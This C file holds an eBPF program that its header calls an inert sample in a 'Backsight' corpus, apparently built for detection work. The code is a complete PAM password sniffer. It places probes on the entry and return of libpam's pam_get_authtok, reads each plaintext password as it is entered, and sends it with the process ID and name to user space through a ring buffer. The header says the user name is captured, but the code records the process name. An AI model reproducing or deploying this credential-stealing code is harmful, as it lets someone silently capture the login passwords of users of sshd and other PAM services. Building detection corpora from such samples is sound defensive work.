/*
 * Backsight corpus sample: bpf/pam-probe  (INERT - compiled only, never loaded)
 *
 * Written from the public description of eBPF password sniffing: a probe on the entry of
 * libpam's pam_get_authtok keeps where the caller wants the password stored; a return probe
 * reads the password from there once libpam has filled it in, with the user name, and sends
 * both to user space through a ring buffer. No kernel module, no change to libpam or sshd.
 */
#include "../../src/bpfshape.h"

char LICENSE[] SEC("license") = "GPL";

struct {
	__uint(type, BPF_MAP_TYPE_HASH);
	__uint(max_entries, 1024);
	__type(key, u64);
	__type(value, u64);
} wanted SEC(".maps");

struct {
	__uint(type, BPF_MAP_TYPE_RINGBUF);
	__uint(max_entries, 1 << 16);
} captured SEC(".maps");

struct secret { u32 pid; char comm[16]; char password[64]; };

SEC("uprobe/pam_get_authtok")
int enter_get_authtok(struct pt_regs *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	u64 where = PT_REGS_PARM3(ctx); /* const char **authtok */
	bpf_map_update_elem(&wanted, &id, &where, 0);
	return 0;
}

SEC("uretprobe/pam_get_authtok")
int leave_get_authtok(struct pt_regs *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	u64 *where = bpf_map_lookup_elem(&wanted, &id);
	struct secret secret = {};
	u64 text = 0;
	if (!where || PT_REGS_RC(ctx) != 0)
		return 0;
	bpf_probe_read_user(&text, sizeof(text), (const void *)*where);
	bpf_probe_read_user_str(secret.password, sizeof(secret.password), (const void *)text);
	secret.pid = id >> 32;
	bpf_get_current_comm(secret.comm, sizeof(secret.comm));
	bpf_ringbuf_output(&captured, &secret, sizeof(secret), 0);
	bpf_map_delete_elem(&wanted, &id);
	return 0;
}
